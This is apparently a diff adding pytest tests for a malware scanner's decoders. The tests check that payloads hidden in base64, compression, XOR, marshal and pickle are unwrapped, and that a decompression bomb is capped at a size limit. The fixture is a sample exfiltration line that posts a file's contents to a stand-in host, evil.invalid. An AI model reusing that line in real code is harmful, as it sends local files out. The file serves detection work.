@@ -1,0 +1,156 @@
+"""Decoding by content, and the readers of marshal and pickle streams."""
+
+import base64
+import bz2
+import codecs
+import gzip
+import lzma
+import marshal
+import pickle
+import urllib.parse
+import zlib
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from scanner.decode import blobs, marshal_reader, pickle_reader, steps
+
+CODE = b"import requests\nrequests.post('https://evil.invalid', data=open('x').read())\n" * 3
+
+ENCODERS: dict[str, Callable[[bytes], bytes]] = {
+    "base64": base64.b64encode,
+    "base32": base64.b32encode,
+    "hex": lambda data: data.hex().encode(),
+    "zlib": zlib.compress,
+    "gzip": gzip.compress,
+    "bz2": bz2.compress,
+    "lzma": lzma.compress,
+    "url": lambda data: "".join(f"%{byte:02x}" for byte in data).encode(),
+    "escapes": lambda data: "".join(f"\\x{byte:02x}" for byte in data).encode(),
+    "chars": lambda data: str(list(data)).encode(),
+    "utf-16": lambda data: data.decode().encode("utf-16-le"),
+}
+
+
+@pytest.mark.parametrize("name", ENCODERS)
+def test_each_encoding_is_told_from_its_bytes(name: str) -> None:
+    assert list(blobs.unwrap(ENCODERS[name](CODE))) == [((name,), CODE)]
+
+
+@pytest.mark.parametrize("name", ["base85", "ascii85", "z85", "rot13", "quopri", "uu", "deflate", "reverse"])
+def test_the_other_decoders_undo_their_encoding(name: str) -> None:
+    deflate = zlib.compressobj(wbits=-15)
+    z85 = base64.b85encode(CODE + b"\n" * (-len(CODE) % 4)).translate(bytes.maketrans(steps._B85, steps._Z85))  # pyright: ignore[reportPrivateUsage]
+    encoded = {
+        "base85": base64.b85encode(CODE),
+        "ascii85": base64.a85encode(CODE, adobe=True),
+        "z85": z85,
+        "rot13": codecs.encode(CODE.decode(), "rot13").encode(),
+        "quopri": codecs.encode(CODE, "quopri"),
+        "uu": codecs.encode(CODE, "uu"),
+        "deflate": deflate.compress(CODE) + deflate.flush(),
+        "reverse": CODE[::-1],
+    }[name]
+    assert steps.DECODERS[name](encoded).strip() == CODE.strip()
+
+
+def test_chains_unwrap_in_one_go() -> None:
+    data = base64.b64encode(zlib.compress(base64.b64encode(gzip.compress(CODE))[::-1]))
+    assert list(blobs.unwrap(data)) == [(("base64", "zlib", "reverse", "base64", "gzip"), CODE)]
+
+
+def test_a_damaged_end_keeps_what_came_before() -> None:
+    packed = zlib.compress(CODE * 200)
+    assert steps.inflate(packed[:-20]).startswith(CODE)
+
+
+def test_a_bomb_stops_at_its_limit() -> None:
+    bomb = zlib.compress(bytes(50_000_000))
+    assert len(steps.inflate(bomb, limit=1000)) == 1000
+    assert len(steps.unbz2(bz2.compress(bytes(5_000_000)), limit=1000)) == 1000
+
+
+@pytest.mark.parametrize(
+    "noise", [b"a" * 500, b"0" * 64, bytes(range(256)) * 4, b"/usr/lib/python3/dist-packages/" * 20, b"AAAA" * 300]
+)
+def test_noise_is_not_decoded(noise: bytes) -> None:
+    assert list(blobs.unwrap(noise)) == []
+
+
+@given(st.binary(max_size=200), st.integers(0, 300))
+def test_long_runs_are_found_wherever_they_stand(noise: bytes, at: int) -> None:
+    run = b"QUJD" * 60
+    data = b"x = 1\n" * at + b"'" + run + b"'" + noise
+    assert any(data[start:end].startswith(run) for start, end in blobs.long_runs(data))
+
+
+def test_xor_works_on_whole_buffers() -> None:
+    assert steps.xor(steps.xor(CODE, b"key"), b"key") == CODE
+
+
+VALUES = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text() | st.binary(),
+    lambda inner: st.lists(inner, max_size=4) | st.tuples(inner, inner),
+    max_leaves=12,
+)
+
+
+@given(VALUES)
+def test_marshal_streams_read_as_they_were_written(value: object) -> None:
+    def plain(item: object) -> object:
+        if isinstance(item, float | complex):
+            return 0.0  # the reader steps over them
+        if isinstance(item, list | tuple):
+            return type(item)(plain(one) for one in item)
+        return item
+
+    for version in (2, 4):
+        assert marshal_reader.read_marshal(marshal.dumps(value, version)) == plain(value)
+
+
+@pytest.mark.parametrize("layout", ["2.7", "3.0", "3.8"])
+def test_code_objects_of_older_layouts_are_read(layout: str) -> None:
+    def small(data: bytes, kind: bytes = b"s") -> bytes:
+        return kind + len(data).to_bytes(4, "little") + data
+
+    integers = {"2.7": 4, "3.0": 5, "3.8": 6}[layout]
+    name = b"u" if layout != "2.7" else b"t"
+    empty = b"(" + bytes(4)
+    names = b"(" + (1).to_bytes(4, "little") + small(b"urlopen", name)
+    consts = b"(" + (1).to_bytes(4, "little") + small(b"https://evil.invalid", name)
+    stream = b"c" + bytes(4 * integers) + small(b"\x64\0") + consts + names + empty * 3
+    stream += small(b"x.py", name) + small(b"<module>", name) + (7).to_bytes(4, "little") + small(b"")
+    text, _ = marshal_reader.listing(marshal_reader.read_marshal(stream))
+    assert "urlopen" in text
+    assert "https://evil.invalid" in text
+    assert "line 7" in text
+
+
+def test_nested_functions_are_listed() -> None:
+    code = compile("def a():\n    def b():\n        return 'deep inside'\n", "x", "exec")
+    text, _ = marshal_reader.listing(marshal_reader.read_marshal(marshal.dumps(code)))
+    assert "'deep inside'" in text
+
+
+@settings(max_examples=200)
+@given(st.binary(max_size=120), st.sampled_from([b"", b"c", b"\xe3", b"(", b"[", b"{", b"l", b"r", b"<"]))
+def test_broken_streams_give_an_error_and_nothing_else(data: bytes, head: bytes) -> None:
+    for read in (marshal_reader.read_marshal, pickle_reader.read_pickle):
+        try:
+            read(head + data)
+        except ValueError:
+            continue
+
+
+def test_pickles_of_each_protocol_name_their_globals() -> None:
+    for protocol in range(6):
+        text, _ = pickle_reader.read_pickle(pickle.dumps([print, "a string"], protocol))
+        assert "print" in text
+        assert "a string" in text
+
+
+def test_quoted_addresses_are_unquoted() -> None:
+    hidden = urllib.parse.quote("https://evil.invalid/ a path", safe="").encode()
+    assert b"https://evil.invalid/ a path" in steps.unquote(hidden)
